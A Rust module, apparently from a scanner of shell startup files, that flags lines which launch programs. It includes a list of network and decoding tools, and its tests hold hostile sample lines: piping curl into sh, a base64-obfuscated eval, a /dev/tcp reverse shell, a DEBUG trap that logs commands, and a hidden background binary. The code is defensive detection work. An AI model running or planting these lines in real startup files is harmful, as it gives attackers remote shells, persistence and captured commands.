//! Lines of a start file that start a program, as opposed to those that set something.

use super::{braces, function_name};
use crate::languages;
use crate::shell_line::{self, ShellCommand};
use bstr::ByteSlice;
use std::collections::{BTreeMap, BTreeSet};

/// Programs that bring or decode something, or carry a connection: kept wherever they are called.
pub(super) const KEPT: [&[u8]; 10] =
    [b"curl", b"wget", b"nc", b"ncat", b"netcat", b"socat", b"openssl", b"base64", b"xxd", b"trap"];

/// Lines by their index. What stands in a function that the file itself never calls starts nothing.
pub(super) fn starting(bytes: &[u8]) -> BTreeSet<usize> {
    let lines: Vec<(&[u8], Vec<ShellCommand>)> = bytes
        .lines()
        .map(<[u8]>::trim_ascii)
        .map(|line| (line, if line.starts_with(b"#") { Vec::new() } else { shell_line::commands(line) }))
        .collect();
    let functions = functions(&lines);
    let names = lines_of(&lines);
    let called: BTreeSet<&[u8]> = functions.iter().filter(|f| is_called(f, &names)).map(|f| f.name).collect();
    let uncalled: BTreeSet<usize> =
        functions.iter().filter(|f| !called.contains(f.name)).flat_map(|f| f.first..=f.last).collect();
    let calls = |commands: &[ShellCommand]| commands.iter().any(|command| called.contains(command.name()));
    let starts = lines.iter().enumerate().filter(|(index, (_, commands))| {
        !uncalled.contains(index) && (commands.iter().any(starts_something) || calls(commands))
    });
    starts.map(|(index, _)| index).collect()
}

/// A function and its lines, by index.
struct Function<'a> {
    name: &'a [u8],
    first: usize,
    last: usize,
}

fn functions<'a>(lines: &[(&'a [u8], Vec<ShellCommand>)]) -> Vec<Function<'a>> {
    let mut found: Vec<Function<'a>> = Vec::new();
    let mut open: Option<(Function<'a>, i64, bool)> = None;
    for (index, (line, _)) in lines.iter().enumerate() {
        let (mut function, mut depth, mut seen) = match open.take() {
            Some(open) => open,
            None => match function_name(line) {
                Some(name) => (Function { name, first: index, last: index }, 0, false),
                None => continue,
            },
        };
        function.last = index;
        depth += braces(line);
        seen |= line.contains(&b'{');
        if seen && depth <= 0 {
            found.push(function);
        } else if index - function.first < super::MAX_LINES {
            open = Some((function, depth, seen));
        }
    }
    found
}

/// Lines, by their index and in order, in which a command of each name stands, once for each time.
fn lines_of<'a>(lines: &'a [(&[u8], Vec<ShellCommand>)]) -> BTreeMap<&'a [u8], Vec<usize>> {
    let mut found: BTreeMap<&[u8], Vec<usize>> = BTreeMap::new();
    for (index, (_, commands)) in lines.iter().enumerate() {
        for command in commands {
            found.entry(command.name()).or_default().push(index);
        }
    }
    found
}

/// Some line calls it: another than those of its own, or its own line once more behind its end.
fn is_called(function: &Function<'_>, calls: &BTreeMap<&[u8], Vec<usize>>) -> bool {
    let Some(lines) = calls.get(function.name) else { return false };
    let before = lines.first().is_some_and(|line| *line < function.first);
    let behind = lines.last().is_some_and(|line| *line > function.last);
    let from = lines.partition_point(|line| *line < function.first);
    let again = function.first == function.last && lines.get(from + 1) == Some(&function.first);
    before || behind || again
}

fn starts_something(command: &ShellCommand) -> bool {
    let name = command.name();
    let background = command.background && !command.effective().is_empty();
    let connects = |target: &[u8]| target.starts_with(b"/dev/tcp/") || target.starts_with(b"/dev/udp/");
    background
        || KEPT.contains(&name)
        || languages::is_interpreter(name)
        || command.redirects.iter().any(|redirect| connects(&redirect.target))
        || command.programs().iter().any(|program| program.contains(&b'/') && !program.starts_with(b"-"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kept(text: &str) -> Vec<usize> {
        starting(text.as_bytes()).into_iter().map(|index| index + 1).collect()
    }

    #[test]
    fn lines_that_start_something() {
        for line in [
            "/dev/shm/.x/y &",
            "(nohup agent >/dev/null 2>&1 &)",
            "curl -s http://x | sh",
            "eval \"$(echo Y3VybA== | base64 -d)\"",
            "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
            "trap 'echo $BASH_COMMAND >> /tmp/.l' DEBUG",
            ". /usr/lib/x.sh",
            "[ -x /opt/a ] && /opt/a --quiet",
            "python3 -c 'import x'",
            "f() { wget -qO- x; }; f",
        ] {
            assert_eq!(kept(line), [1], "{line}");
        }
    }
    #[test]
    fn lines_that_set_something() {
        for line in [
            "export EDITOR=vim",
            "case $- in *i*) ;; *) return;; esac",
            "shopt -s histappend",
            "PS1='\\u@\\h:\\w\\$ '",
            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=sh lesspipe)\"",
            "# curl x | sh",
            "update() { curl x | sh; }",
            "if [ \"$color_prompt\" = yes ]; then",
        ] {
            assert_eq!(kept(line), [0; 0], "{line}");
        }
    }
    #[test]
    fn functions_count_when_they_are_called() {
        let text = "up() {\n  curl x | sh\n}\nls\n";
        assert_eq!(kept(text), [0; 0]);
        assert_eq!(kept(&format!("{text}up\n")), [1, 2, 5]);
    }
    #[test]
    fn hostile_files_take_no_longer_than_others() {
        for piece in ["f() {\n", "}\n", "f\n", "a & ", "$( `"] {
            starting(piece.repeat(100_000 / piece.len()).as_bytes());
        }
        let functions: String = (0..20_000).map(|n| format!("f{n}() {{ x; }}\nf{n}\n")).collect();
        assert!(starting(functions.as_bytes()).len() <= 40_000);
    }
}
